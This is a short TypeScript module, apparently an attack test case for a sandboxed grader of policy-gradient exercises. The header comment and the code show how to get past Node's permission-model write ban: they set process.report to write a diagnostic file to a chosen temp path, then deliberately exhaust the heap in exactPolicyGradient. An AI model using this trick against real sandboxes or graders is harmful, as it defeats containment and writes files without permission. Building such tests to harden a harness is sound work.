// Attack: asks Node for a diagnostic report on a fatal error, in a folder and under a name of its choosing (the OS temp folder, pgbook-attack-marker-report.json), then runs out of heap in exactPolicyGradient: Node writes the report natively, past the permission model's write ban (to any path the process may write, over an existing file too; with a file-size limit of 0 it still creates the file, empty).
import os from "node:os";
export * from "./correct.ts";

try {
  process.report.directory = os.tmpdir();
  process.report.filename = "pgbook-attack-marker-report.json";
  process.report.reportOnFatalError = true;
} catch {
  /* refused */
}

export function exactPolicyGradient(_theta: Float64Array, _r: Float64Array): Float64Array {
  // small JavaScript objects: the heap limit, not the resident-memory watchdog, ends it
  const keep: { x: number[] }[] = [];
  for (;;) keep.push({ x: new Array(1000).fill(keep.length + 0.5) });
}
